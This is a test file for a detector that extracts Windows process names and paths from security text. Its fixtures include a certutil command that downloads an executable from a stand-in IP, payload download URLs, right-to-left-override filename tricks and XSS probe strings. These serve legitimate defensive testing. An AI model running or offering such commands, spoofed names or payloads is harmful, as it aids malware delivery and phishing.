import { describe, expect, it } from 'vitest';
import { findProcesses } from '@/lib/detect/find-processes';
import { directoryOf, normalizePath } from '@/lib/detect/normalize-path';

const names = (text: string) => findProcesses(text).map((m) => m.name);
const paths = (text: string) => findProcesses(text).map((m) => m.path);

describe('findProcesses: what counts', () => {
  it.each([
    ['svchost.exe', ['svchost.exe']],
    ['SVCHOST.EXE', ['svchost.exe']],
    ['Process svchost.exe started.', ['svchost.exe']],
    ['(explorer.exe)', ['explorer.exe']],
    ['[cmd.exe]', ['cmd.exe']],
    ["'powershell.exe'", ['powershell.exe']],
    ['process.name : "rundll32.exe"', ['rundll32.exe']],
    ['process.name:rundll32.exe', ['rundll32.exe']],
    ['OriginalFileName=Cmd.Exe', ['cmd.exe']],
    ['invoice.pdf.exe', ['invoice.pdf.exe']],
    ['scvhost.exe and isass.exe', ['scvhost.exe', 'isass.exe']],
    ['svch0st.exe', ['svch0st.exe']],
    ['ѕvchost.exe', ['ѕvchost.exe']], // Cyrillic s: its own name
    ['7z.exe x a.zip', ['7z.exe']],
    ['cmd.exe /c start evil.exe && notepad.exe', ['cmd.exe', 'evil.exe', 'notepad.exe']],
    [
      'explorer.exe, chrome.exe; msedge.exe|teams.exe',
      ['explorer.exe', 'chrome.exe', 'msedge.exe', 'teams.exe'],
    ],
    ['&quot;svchost.exe&quot;', ['svchost.exe']],
    ['setup (1).exe', ['setup (1).exe']],
    ['svchost.exe:Zone.Identifier', ['svchost.exe']],
    ['ran svchost.exe.', ['svchost.exe']],
    ['**svchost.exe**', ['svchost.exe']],
    ['PSEXESVC.exe', ['psexesvc.exe']],
    ['mal ware.exe', ['ware.exe']],
  ])('%j → %j', (text, expected) => {
    expect(names(text)).toEqual(expected);
  });

  it.each([
    // Lineages, trees and lists drawn without spaces, and the quotes tickets curl.
    ['explorer.exe→cmd.exe⇒powershell.exe', ['explorer.exe', 'cmd.exe', 'powershell.exe']],
    ['winword.exe➜cmd.exe⮕mshta.exe', ['winword.exe', 'cmd.exe', 'mshta.exe']],
    ['a.exe▶b.exe', ['a.exe', 'b.exe']],
    ['└─cmd.exe', ['cmd.exe']],
    ['├──svchost.exe', ['svchost.exe']],
    ['•lsass.exe', ['lsass.exe']],
    ['‘cmd.exe’ and “rundll32.exe”', ['cmd.exe', 'rundll32.exe']],
    ['«mshta.exe»', ['mshta.exe']],
    ['「cmd.exe」（wscript.exe）', ['cmd.exe', 'wscript.exe']],
    ['rundll32.exe—a LOLBin', ['rundll32.exe']],
  ])('ends a name at non-ASCII punctuation or an arrow: %j', (text, expected) => {
    expect(names(text)).toEqual(expected);
  });

  it.each([
    ['Установка.exe', 'установка.exe'],
    ['計算機.exe', '計算機.exe'],
    ['naïve.exe', 'naïve.exe'],
    ['ｃｍｄ.exe', 'ｃｍｄ.exe'], // full-width letters: a lookalike, kept whole
    ['Setup™.exe', 'setup™.exe'],
    ['Report–Final.exe', 'report–final.exe'], // dashes join words, as the ASCII hyphen
    ['invoice‐2024.exe', 'invoice‐2024.exe'],
    ['Bob’s.exe', 'bob’s.exe'], // an apostrophe inside a word
  ])('keeps letters of any script, dashes and signs in a name: %j', (text, expected) => {
    expect(names(text)).toEqual([expected]);
  });
});

describe('findProcesses: what does not count', () => {
  it.each([
    ['*.exe'],
    ['C:\\Windows\\*.exe'],
    ['svc*.exe'],
    ['*svchost.exe'],
    ['?vchost.exe'],
    ['.exe'],
    ['the .exe extension'],
    ['files ending in .EXE are executables'],
    ['svchost.exe.evil.com'],
    ['update.exe.example.org'],
    ['svchost.exe.mui'],
    ['app.exe.config'],
    ['app.executable'],
    ['payload.exe_'],
    ['kernel32.dll'],
    ['run.ps1'],
    ['invoice.docm'],
    ['report.pdf'],
    ['a.hta b.sct c.js d.vbs'],
    ['svchost'],
    ['10.0.19041.exe'],
    ['...exe'],
    ['host-01.corp.local'],
    ['v1.2.3'],
  ])('%j → nothing', (text) => {
    expect(names(text)).toEqual([]);
  });
});

describe('findProcesses: paths', () => {
  it.each([
    ['C:\\Windows\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['c:/windows/system32/svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['C:\\\\Windows\\\\System32\\\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['C:\\\\\\\\Windows\\\\\\\\System32\\\\\\\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['\\\\?\\C:\\Windows\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff', 'c:\\windows\\system32\\conhost.exe'],
    [
      '\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe',
      'c:\\windows\\system32\\svchost.exe',
    ],
    ['\\\\Device\\\\HarddiskVolume2\\\\Windows\\\\explorer.exe', 'c:\\windows\\explorer.exe'],
    ['%SystemRoot%\\System32\\svchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['%windir%\\system32\\rundll32.exe', 'c:\\windows\\system32\\rundll32.exe'],
    [
      '%ProgramFiles%\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      'c:\\program files\\microsoft office\\root\\office16\\winword.exe',
    ],
    [
      '%ProgramFiles(x86)%\\Google\\Update\\GoogleUpdate.exe',
      'c:\\program files (x86)\\google\\update\\googleupdate.exe',
    ],
    ['%LOCALAPPDATA%\\Temp\\x.exe', 'c:\\users\\...\\appdata\\local\\temp\\x.exe'],
    ['$env:windir\\system32\\cmd.exe /c', 'c:\\windows\\system32\\cmd.exe'],
    // zero-width spaces and soft hyphens after separators: a console's wrapping hints
    ['C:\\\u200BWindows\\\u200BSystem32\\\u00ADsvchost.exe', 'c:\\windows\\system32\\svchost.exe'],
    ['& "${env:ProgramFiles}\\7-Zip\\7z.exe" a', 'c:\\program files\\7-zip\\7z.exe'],
    ['\\\\?\\UNC\\fs01\\share\\tools\\psexec.exe', '\\\\fs01\\share\\tools\\psexec.exe'],
    [
      '\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\cmd.exe',
      '\\device\\harddiskvolumeshadowcopy3\\windows\\system32\\cmd.exe',
    ],
    [
      '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\cmd.exe',
      '\\device\\harddiskvolumeshadowcopy1\\windows\\system32\\cmd.exe',
    ],
    ['\\SystemRoot\\System32\\smss.exe', 'c:\\windows\\system32\\smss.exe'],
    ['\\\\fileserver01\\share$\\tools\\PsExec.exe', '\\\\fileserver01\\share$\\tools\\psexec.exe'],
    ['\\\\\\\\fs02\\\\deploy\\\\setup.exe', '\\\\fs02\\deploy\\setup.exe'],
    // this machine's administrative share is the drive; another machine's stays a share
    ['\\\\localhost\\C$\\Windows\\System32\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
    ['\\\\?\\UNC\\127.0.0.1\\d$\\tools\\x.exe', 'd:\\tools\\x.exe'],
    ['\\\\WS-0042\\C$\\Windows\\PSEXESVC.exe', '\\\\ws-0042\\c$\\windows\\psexesvc.exe'],
    ['C:\\PROGRA~1\\MICROS~1\\Office16\\EXCEL.EXE', 'c:\\progra~1\\micros~1\\office16\\excel.exe'],
    ['C:\\Windows\\System32\\..\\SysWOW64\\.\\cmd.exe', 'c:\\windows\\syswow64\\cmd.exe'],
    [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
      'c:\\program files\\google\\chrome\\application\\chrome.exe',
    ],
    [
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      'c:\\program files\\microsoft office\\root\\office16\\winword.exe',
    ],
    [
      'C:\\Users\\jdoe\\Downloads\\Invoice 2211.pdf.exe',
      'c:\\users\\jdoe\\downloads\\invoice 2211.pdf.exe',
    ],
    ['Image=C:\\Windows\\System32\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
    ['"image":"C:\\\\Windows\\\\System32\\\\cmd.exe"', 'c:\\windows\\system32\\cmd.exe'],
    ['\\Windows\\System32\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
    [
      '\\\\?\\Volume{3f2504e0-4f89-11d3-9a0c-0305e82c3301}\\Windows\\System32\\cmd.exe',
      'c:\\windows\\system32\\cmd.exe',
    ],
    [
      'C:\\Windows\\Sysnative\\WindowsPowerShell\\v1.0\\powershell.exe',
      'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
    ],
    ['%windir%\\sysnative\\cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
    ['D:\\Tools\\Sysnative\\x.exe', 'd:\\tools\\sysnative\\x.exe'],
  ])('%j → %j', (text, expected) => {
    expect(paths(text)).toEqual([expected]);
  });

  it('reads a tree branch drawn with a backslash as a branch, not as a path', () => {
    expect(
      findProcesses('winword.exe\n  \\_ cmd.exe\n  \\_ - x.exe').map((m) => [m.name, m.path]),
    ).toEqual([
      ['winword.exe', null],
      ['cmd.exe', null],
      ['x.exe', null],
    ]);
  });

  it('reads every executable of a command line, each with its own path', () => {
    const found = findProcesses(
      'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\svchost.exe -k netsvcs && "C:\\Program Files\\X Y\\z.exe"',
    );
    expect(found.map((m) => [m.name, m.path])).toEqual([
      ['cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
      ['svchost.exe', 'c:\\users\\public\\svchost.exe'],
      ['z.exe', 'c:\\program files\\x y\\z.exe'],
    ]);
  });

  it('does not glue arguments into a path with spaces', () => {
    const found = findProcesses('C:\\Windows\\System32\\cmd.exe /c svchost.exe');
    expect(found.map((m) => [m.name, m.path])).toEqual([
      ['cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
      ['svchost.exe', null],
    ]);
    expect(paths('C:\\Windows\\explorer.exe launched Update Tool.exe')).toEqual([
      'c:\\windows\\explorer.exe',
      null,
    ]);
  });

  it.each([
    ['https://dl.example.com/files/setup.exe', 'setup.exe'],
    ['http://203.0.113.7/payload.exe?x=1', 'payload.exe'],
    ['hxxp[:]//203.0.113.7/a/b/stage2.exe', 'stage2.exe'],
    ['certutil -urlcache -f http://198.51.100.4/p.exe C:\\ProgramData\\upd.exe', 'p.exe'],
  ])('a download URL %j names %s with no path', (text, name) => {
    const m = findProcesses(text)[0]!;
    expect(m).toMatchObject({ name, url: true, path: null });
  });

  it.each([
    ['file:///C:/Windows/System32/notepad.exe', 'c:\\windows\\system32\\notepad.exe'],
    ['file:///C:/Program%20Files/App/tool.exe', 'c:\\program files\\app\\tool.exe'],
    ['file:///c|/Windows/explorer.exe', 'c:\\windows\\explorer.exe'],
    ['file://fileserver/share/tools/psexec.exe', '\\\\fileserver\\share\\tools\\psexec.exe'],
  ])('a file: URL %j is a file on disk: %s', (text, path) => {
    const [m] = findProcesses(text);
    expect(m).toMatchObject({ path, url: false });
    expect(text.slice(m!.start, m!.end)).toBe(text);
  });

  it.each(['file:///home/u/x.exe', 'file:///C:/bad%zz/x.exe', 'ftp://h/C:/x.exe'])(
    'any other URL %j is a download, with no path',
    (text) => {
      expect(findProcesses(text)).toMatchObject([{ name: 'x.exe', url: true, path: null }]);
    },
  );

  it('reads screensavers and the .com programs Windows still ships as processes', () => {
    expect(
      findProcesses('C:\\Users\\bob\\Desktop\\Invoice.scr /s').map((m) => [m.name, m.path]),
    ).toEqual([['invoice.scr', 'c:\\users\\bob\\desktop\\invoice.scr']]);
    expect(names('cmd.exe /c chcp.com 65001 & C:\\Windows\\System32\\more.com < x.txt')).toEqual([
      'cmd.exe',
      'chcp.com',
      'more.com',
    ]);
  });

  it.each([
    'mail bob@contoso.com',
    'https://more.com/x',
    'C:\\inetpub\\wwwroot\\contoso.com\\web.config',
    'C:\\inetpub\\wwwroot\\contoso.com',
    'see example.com or www.chcp.com',
    'a description.script',
  ])('reads no program in %j', (text) => {
    expect(findProcesses(text)).toEqual([]);
  });

  it('keeps relative paths as names without a path', () => {
    expect(findProcesses('.\\tools\\x.exe')).toMatchObject([{ name: 'x.exe', path: null }]);
    expect(findProcesses('Temp\\x.exe')).toMatchObject([{ name: 'x.exe', path: null }]);
  });

  it('keeps a path a console shortened in the middle as a name without a path, over its span', () => {
    for (const text of [
      'C:\\Windows\\Sys…\\svchost.exe',
      'C:\\...\\svchost.exe',
      'C:\\Users\\bob\\…\\Temp\\x.exe',
    ]) {
      const [m] = findProcesses(text);
      expect(m).toMatchObject({ path: null, start: 0, end: text.length });
    }
    // EchoTrail's own bucket for per-user folders is no elision.
    expect(findProcesses('%LOCALAPPDATA%\\Temp\\x.exe')[0]?.path).toBe(
      'c:\\users\\...\\appdata\\local\\temp\\x.exe',
    );
  });

  it('reports spans that cover the whole path', () => {
    const text = 'ran "C:\\Windows\\System32\\svchost.exe" -k';
    const [m] = findProcesses(text);
    expect(text.slice(m!.start, m!.end)).toBe('C:\\Windows\\System32\\svchost.exe');
    expect(text.slice(m!.nameStart, m!.end)).toBe('svchost.exe');
  });
});

describe('directoryOf', () => {
  it.each([
    [normalizePath('C:\\Windows\\System32\\svchost.exe'), 'c:\\windows\\system32'],
    [normalizePath('C:\\x.exe'), 'c:\\'],
    ['svchost.exe', null],
  ])('%s → %s', (path, dir) => {
    expect(directoryOf(path)).toBe(dir);
  });
});

describe('hostile text', () => {
  it('stays linear on a huge run with no separators', () => {
    const text = 'a'.repeat(200_000) + '.exe ' + ' '.repeat(100_000) + '\\x.exe';
    const started = performance.now();
    const found = findProcesses(text);
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(found.map((m) => m.name)).toEqual(['x.exe']);
  });

  it('reads a name with a right-to-left override as one name, not two', () => {
    // "invoice\u202Efdp.exe" is displayed as "invoiceexe.pdf"; Windows runs it as an .exe.
    expect(names('lsass.exe\u202Egpj.exe and invoice\u202Efdp.exe')).toEqual([
      'lsass.exe\u202egpj.exe',
      'invoice\u202efdp.exe',
    ]);
  });

  it.each([
    ['a zero-width space', 'svchost.exe\u200B -k netsvcs'],
    ['a soft hyphen', 'svchost.exe\u00AD'],
    ['a word joiner before a quote', '"svchost.exe\u2060"'],
    ['a stray byte-order mark', 'svchost.exe\uFEFF'],
    ['two hints before a slash', 'svchost.exe\u200B\u200C/x'],
  ])('ends a name at its extension when %s follows it, not the name', (_label, text) => {
    const [mention] = findProcesses(text);
    expect(mention?.name).toBe('svchost.exe');
    expect(text.slice(mention!.start, mention!.end)).toBe('svchost.exe');
  });

  it('leaves out a byte-order mark before a name (a pasted file began with it)', () => {
    const text = '\uFEFFcmd.exe,explorer.exe';
    expect(findProcesses(text).map((m) => text.slice(m.start, m.end))).toEqual([
      'cmd.exe',
      'explorer.exe',
    ]);
  });

  it('keeps a hint with more name after it in the name', () => {
    expect(names('svchost.exe\u200Bgpj.exe')).toEqual(['svchost.exe\u200bgpj.exe']);
  });

  it('reads percent-encoded paths and names as decoded, over the span written', () => {
    const link =
      'https://splunk/app/search?q=Image%3D%22C%3A%5C%5CUsers%5C%5CPublic%5C%5Csvchost.exe%22';
    expect(
      findProcesses(`C%3A%5CWindows%5CSystem32%5Ccmd.exe ${link} https://x/a%20b.exe`).map((m) => [
        m.name,
        m.path,
      ]),
    ).toEqual([
      ['cmd.exe', 'c:\\windows\\system32\\cmd.exe'],
      ['svchost.exe', 'c:\\users\\public\\svchost.exe'],
      ['a b.exe', null],
    ]);
    expect(names('bad escape %zz.exe and %25%25.exe')).toEqual(['%zz.exe', '%25%25.exe']);
  });

  it('treats markup-looking text as text', () => {
    expect(names('<img src=x onerror=alert(1)>.exe "><svg onload=alert(1)>svchost.exe')).toEqual([
      'svchost.exe',
    ]);
  });
});
